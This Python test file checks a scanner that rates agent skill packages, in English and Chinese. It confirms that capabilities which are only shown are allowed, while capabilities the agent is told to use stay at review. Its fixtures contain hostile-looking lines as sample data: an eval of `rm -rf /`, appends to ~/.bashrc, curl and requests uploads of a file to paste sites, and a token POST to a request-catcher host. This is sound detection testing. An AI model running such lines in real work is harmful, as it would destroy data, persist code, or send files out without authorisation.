"""A capability the package only shows is context, not privilege (rules/roles/context.yaml,
policy_roles.context_ceiling), end to end through the real CLI on the team's own samples. Each class has a
negative sample (the capability is only shown — a sample output, a "bad example" fence, a command offered
to the user, test data: hygiene, `allow`, the capability still listed with its evidence) and a positive one
(the agent is told to do it, a review kind shown to the agent, a raw-IP or paste target: still at review
or above), in English and Chinese where the class is prose."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from clirun import make_described_skill, scan_json

SAMPLE_OUTPUT = """# Memory triage

Run the analyzer bundled in `scripts/analyze.py` on the memory image the user names.

## Example output

```text
$ sudo python3 analyze.py --memory /evidence/mem.lime
Kernel modules: 112 (2 hidden)
Syscall hooks: none
```
"""

SAMPLE_OUTPUT_ZH = """# 内存分析

对用户指定的内存镜像运行 `scripts/analyze.py`。

## 示例输出

```text
$ sudo python3 analyze.py --memory /evidence/mem.lime
内核模块：112（2 个隐藏）
```
"""

BAD_EXAMPLE = """# Shell style

### Avoid `eval`
`eval` is a security risk and makes scripts hard to debug. Avoid it unless you fully control the input.

❌ BAD:
```bash
user_input="rm -rf /"
eval "${user_input}" # Dangerous!
```

✅ GOOD: use a `case` statement over known commands.
"""

USER_EXPORT = """# Trace fetcher

Fetch traces with `trace-fetch recent`.

### Environment variables not persisting

**Solution:**
```bash
# Add to your shell config file (~/.bashrc or ~/.zshrc)
echo 'export TRACE_API_KEY="your_key"' >> ~/.bashrc
source ~/.bashrc
```
"""

USER_EXPORT_ZH = """# 链路抓取

用 `trace-fetch recent` 抓取链路。

### 环境变量没有保留

**解决方法：**
```bash
# 添加到你的 shell 配置文件（~/.bashrc 或 ~/.zshrc）
echo 'export TRACE_API_KEY="your_key"' >> ~/.bashrc
```
"""

AGENT_SUDO = """# Service restarter

To apply the change, run:

```bash
sudo systemctl restart nginx
```
"""

SHOWN_PERSIST = """# Startup helper

The helper registers itself at login. This is what it runs:

```bash
echo '~/.local/bin/helper --daemon' >> ~/.bashrc
```
"""

PASTE_USER = """# Notes sharing

Share your notes with your team:

```bash
curl -F 'f:1=@notes.txt' https://ix.io
```
"""

CATCHER_TEST = '''import requests


def test_callback_url_is_rejected():
    url = "https://abc123.requestcatcher.com/hook"
    assert not requests.Request("POST", url, data={"token": "t"}).prepare().body is None
'''

PASTE_TEST = '''import requests


def test_upload():
    requests.post("https://pastebin.com/api/api_post.php", data={"api_paste_code": open("notes.txt").read()})
'''

FIREWALL_SKILL = """# Widget firewall switches

Read `references/permissions.md` to get the full list of permissions this skill needs.

Switch protection on or off for the hosts the user names with `widgetctl fw set`.
"""

PERMISSIONS = """# Permission list

## Write permissions

- `widget-fw:PutEnableSwitch` - Enable firewall protection for specified hosts
- `widget-fw:PutDisableSwitch` - Disable firewall protection for specified hosts
"""

FIREWALL_SKILL_ZH = """# 防火墙开关

阅读 `references/permissions.md`，获取本技能所需的全部权限。

用 `widgetctl fw set` 为用户指定的主机开启或关闭防护。
"""

PERMISSIONS_ZH = """# 权限列表

- `widget-fw:PutDisableSwitch`：关闭防火墙
"""

CASES: dict[str, tuple[str, dict[str, str]]] = {
    "sample-output": (SAMPLE_OUTPUT, {"scripts/analyze.py": "print('report')\n"}),
    "sample-output-zh": (SAMPLE_OUTPUT_ZH, {"scripts/analyze.py": "print('report')\n"}),
    "bad-example": (BAD_EXAMPLE, {}),
    "user-export": (USER_EXPORT, {}),
    "user-export-zh": (USER_EXPORT_ZH, {}),
    "catcher-test": ("# Callback checker\n\nRun `python -m checker` in the project.\n",
                     {"checker/__init__.py": "", "tests/test_callback.py": CATCHER_TEST}),
    "agent-sudo": (AGENT_SUDO, {}),
    "shown-persist": (SHOWN_PERSIST, {}),
    "paste-user": (PASTE_USER, {}),
    "firewall-manager": (FIREWALL_SKILL, {"references/permissions.md": PERMISSIONS}),
    "firewall-manager-zh": (FIREWALL_SKILL_ZH, {"references/permissions.md": PERMISSIONS_ZH}),
    "markdown-tables": (FIREWALL_SKILL.replace("# Widget firewall switches", "# Tables"),
                        {"references/permissions.md": PERMISSIONS}),
    "markdown-tables-zh": (FIREWALL_SKILL_ZH.replace("# 防火墙开关", "# 表格"), {"references/permissions.md": PERMISSIONS_ZH}),
    "paste-test": ("# Notes\n\nRun `python -m notes` in the project.\n",
                   {"notes/__init__.py": "", "tests/test_upload.py": PASTE_TEST}),
}


DESCRIPTIONS = {
    "firewall-manager": "Manage Widget Cloud firewall switches. Use when enabling or disabling firewall protection "
                        "for the user's hosts.",
    "firewall-manager-zh": "管理 Widget 云防火墙开关：开启或关闭云防火墙的防护。",
    "markdown-tables": "Formats Markdown tables.",
    "markdown-tables-zh": "格式化 Markdown 表格。",
}


@pytest.fixture(scope="module")
def verdicts(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    root = tmp_path_factory.mktemp("context-hygiene")
    for name, (body, extra) in CASES.items():
        make_described_skill(root, name, DESCRIPTIONS.get(name, f"The {name} helper."), body, extra)
    doc, _ = scan_json("--fail-on", "never", "--no-cache", "--quiet", *sorted(str(p) for p in root.iterdir()))
    return {Path(p["input"]).name: p for p in doc["packages"]}


@pytest.mark.parametrize(("name", "cap"), [
    ("sample-output", "proc.elevate"), ("sample-output-zh", "proc.elevate"), ("bad-example", "fs.delete[/]"),
    ("user-export", "persist[shell-rc]"), ("user-export-zh", "persist[shell-rc]"),
    ("catcher-test", "net.egress[abc123.requestcatcher.com]")])
def test_a_capability_only_shown_is_hygiene(verdicts: dict[str, dict[str, Any]], name: str, cap: str) -> None:
    pkg = verdicts[name]
    assert pkg["verdict"] == "allow", pkg["reasons"]
    inferred = {ic["capability"]: ic for ic in pkg["capabilities"]["inferred"]}
    assert cap in inferred, sorted(inferred)  # still reported, with its evidence
    assert inferred[cap]["evidence"]


@pytest.mark.parametrize("name", ["agent-sudo", "shown-persist", "paste-user", "paste-test"])
def test_a_capability_exercised_or_worth_a_look_stays_at_review(verdicts: dict[str, dict[str, Any]],
                                                                name: str) -> None:
    pkg = verdicts[name]
    assert pkg["verdict"] in ("review", "block"), pkg["reasons"]


@pytest.mark.parametrize("name", ["firewall-manager", "firewall-manager-zh"])
def test_the_skills_stated_subject_in_its_reference_text_is_hygiene(verdicts: dict[str, dict[str, Any]],
                                                                    name: str) -> None:
    pkg = verdicts[name]
    assert any(f["rule_id"] == "safety-check-bypass" for f in pkg["findings"]), pkg["findings"]
    assert pkg["verdict"] == "allow", pkg["reasons"]


@pytest.mark.parametrize("name", ["markdown-tables", "markdown-tables-zh"])
def test_the_same_reference_text_in_an_unrelated_skill_stays_at_review(verdicts: dict[str, dict[str, Any]],
                                                                       name: str) -> None:
    pkg = verdicts[name]
    assert pkg["verdict"] == "review", pkg["reasons"]
    assert any(r.startswith("safety-check-bypass") for r in pkg["reasons"]), pkg["reasons"]
